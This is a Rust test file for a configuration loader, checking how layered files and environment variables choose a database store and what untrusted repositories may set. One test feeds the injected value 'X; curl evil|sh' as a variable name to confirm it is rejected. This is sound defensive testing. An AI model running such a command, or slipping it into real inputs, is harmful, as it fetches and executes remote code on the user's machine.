//! Who says which store, and what a repository may say.
#![forbid(unsafe_code)]

use super::*;

/// Files of the three layers, and an environment.
struct World {
    place: tempfile::TempDir,
    env: Vec<(&'static str, &'static str)>,
    /// A second repository takes part.
    two: bool,
    /// Something lies in no repository.
    outside: bool,
    /// Somebody has vouched for everything.
    trusted: bool,
}

struct Everything(bool);

impl super::super::Ground for Everything {
    fn is_vouched_for(&self, _: &super::super::File) -> bool {
        self.0
    }

    fn origin(&self, _: &Path) -> Option<String> {
        None
    }
}

impl World {
    fn new(system: &str, user: &str, repository: &str) -> Self {
        let place = tempfile::tempdir().expect("place");
        for (name, text) in [("system", system), ("user", user), ("repository", repository)] {
            if !text.is_empty() {
                std::fs::write(place.path().join(name), text).expect("file");
            }
        }
        Self { place, env: Vec::new(), two: false, outside: false, trusted: false }
    }

    fn with(mut self, name: &'static str, value: &'static str) -> Self {
        self.env.push((name, value));
        self
    }

    fn store(&self) -> Result<StoreSetting, ConfigError> {
        let at = |name: &str| self.place.path().join(name);
        let mut repositories = vec![at("repository")];
        repositories.extend(self.two.then(|| at("other")));
        let (system, fragments) = (at("system"), at("fragments"));
        let places = Places { system, fragments, user: Some(at("user")), repositories, outside: self.outside };
        let env = |name: &str| self.env.iter().find(|(set, _)| *set == name).map(|(_, value)| OsString::from(value));
        Layers::read(&places, &env, &Shelf::default(), &Everything(self.trusted))?.store(&env)
    }

    fn trusted(self) -> Self {
        Self { trusted: true, ..self }
    }
}

const URL: &str = "store = { url = \"postgres://a\" }";

#[test]
fn the_nearest_word_counts() {
    let variable = "store = { url_env = \"DB\" }";
    let table = [
        (World::new("", "", ""), Address::Embedded),
        (World::new(URL, "", ""), Address::Text("postgres://a".to_owned())),
        (World::new(URL, "store = { url = \"postgres://b\" }", ""), Address::Text("postgres://b".to_owned())),
        (World::new(URL, "store = { url = \"embedded\" }", ""), Address::Embedded),
        (World::new(URL, "", "").with("LOCKED_STORE", "embedded"), Address::Embedded),
        (World::new(URL, "", "").with("LOCKED_STORE", ""), Address::Text("postgres://a".to_owned())),
        (World::new("", "", "").with("LOCKED_STORE", "sqlite:/x"), Address::Text("sqlite:/x".to_owned())),
    ];
    for (world, expected) in table {
        assert_eq!(world.store().expect("a store").address, expected, "{:?}", world.env);
    }
    let one = World::new(URL, "", variable).with("DB", "postgres://c");
    std::fs::write(one.place.path().join("other"), variable).expect("file");
    let setting = one.store().expect("a store");
    assert_eq!((setting.address, setting.said_by.as_str()), (Address::Text("postgres://c".to_owned()), "DB"));
}

#[cfg(unix)]
#[test]
fn the_variable_replaces_the_whole_of_what_files_say_and_tells_what_that_was() {
    let file = "store = { url = \"postgres://a\", via = \"ssh://h\", schema = \"s\", advisory = true }";
    let world = World::new("", file, "").with("LOCKED_STORE", "postgres://b");
    let setting = world.store().expect("a store");
    assert_eq!((setting.via, setting.schema, setting.advisory), (None, None, false));
    let replaced = setting.replaces.expect("what it replaces");
    assert!(replaced.ends_with("/user, with schema, via, advisory"), "{replaced}");
    for (user, of_environment) in [(file, ""), ("", "postgres://b")] {
        let setting = World::new("", user, "").with("LOCKED_STORE", of_environment).store().expect("a store");
        assert_eq!(setting.replaces, None, "{user}");
    }
}

#[test]
fn an_untrusted_repository_may_name_a_variable_and_nothing_else() {
    for (text, key) in [
        (URL, "store.url"),
        ("store = { url_sops = { file = \"x\", key = \"y\" } }", "store.url_sops"),
        ("store = { url_env = \"DB\", schema = \"other\" }", "store.schema"),
        ("store = { url_env = \"DB\", via = \"ssh://h\" }", "store.via"),
        ("store = { url_env = \"DB\", advisory = true }", "store.advisory"),
        ("store = { url_env = \"DB\", on_unreachable = \"local\" }", "store.on_unreachable"),
    ] {
        // Refused also where another has the last word.
        let world = World::new("", "", text).with("DB", "postgres://x").with("LOCKED_STORE", "embedded");
        assert!(matches!(world.store(), Err(ConfigError::Untrusted { key: found, .. }) if found == key), "{text}");
        let own = World::new("", text, "").with("DB", "postgres://x");
        assert!(own.store().is_ok(), "{text}");
        let trusted = World::new("", "", text).with("DB", "postgres://x").trusted().store().expect("a store");
        assert!(!trusted.guarded, "{text}");
    }
}

#[test]
fn a_variable_that_a_repository_names_is_shown_to_nobody_before_it_is_trusted() {
    let world = || World::new("", "", "store = { url_env = \"DB\" }").with("DB", "postgres://x");
    assert!(world().store().expect("a store").guarded);
    assert!(!world().trusted().store().expect("a store").guarded);
}

#[test]
fn what_names_a_session_must_be_a_name() {
    let odd = World::new("", "[session]\nenv = [\"A B\"]\n", "");
    let error = odd.store().expect_err("no name").to_string();
    assert!(error.contains("line 2, column 8: a value of the wrong form, expected the name of a variable"), "{error}");
}

#[test]
fn two_repositories_with_two_stores_are_refused() {
    let mut world =
        World::new("", "", "store = { url_env = \"A\" }").with("A", "postgres://a").with("B", "postgres://b");
    world.two = true;
    // One that says nothing has the embedded store.
    assert!(matches!(world.store(), Err(ConfigError::TwoStores(..))));
    std::fs::write(world.place.path().join("other"), "store = { url_env = \"B\" }").expect("file");
    assert!(matches!(world.store(), Err(ConfigError::TwoStores(..))));
    std::fs::write(world.place.path().join("other"), "store = { url_env = \"A\" }").expect("file");
    assert!(world.store().is_ok());
    // What lies in no repository has the embedded store too.
    world.outside = true;
    assert!(matches!(world.store(), Err(ConfigError::TwoStores(..))));
    // One address can lead to two stores, or to one by two ways.
    for more in ["", ", schema = \"mine\"", ", via = \"ssh://h\"", ", advisory = true"] {
        let mine = format!("store = {{ url = \"postgres://a\"{more} }}");
        let mut world = World::new("", &mine, "store = { url_env = \"A\" }").with("A", "postgres://a");
        world.outside = true;
        assert_eq!(world.store().is_ok(), more.is_empty(), "{mine}");
    }
}

#[test]
fn what_is_named_must_be_there() {
    let unset = World::new("", "", "store = { url_env = \"DB\" }");
    assert!(matches!(unset.store(), Err(ConfigError::Unset { .. })));
    // Whoever says which store needs no variable of the repository's.
    assert!(World::new("", "", "store = { url_env = \"DB\" }").with("LOCKED_STORE", "embedded").store().is_ok());
    for name in ["X; curl evil|sh", "", "1X", "A\u{1b}B"] {
        let text = format!("store = {{ url_env = {name:?} }}").replace("\\u{1b}", "\\u001b");
        let error = World::new("", "", &text).store().expect_err("no name");
        let said = error.to_string();
        assert!(said.contains("line 1, column 21: ") && said.contains("the name of a variable"), "{said}");
    }
    for text in ["store = {}", "store = { url = \"a\", url_env = \"B\" }", "store = { advisory = true }"] {
        assert!(matches!(World::new("", text, "").store(), Err(ConfigError::Choice { .. })), "{text}");
    }
}
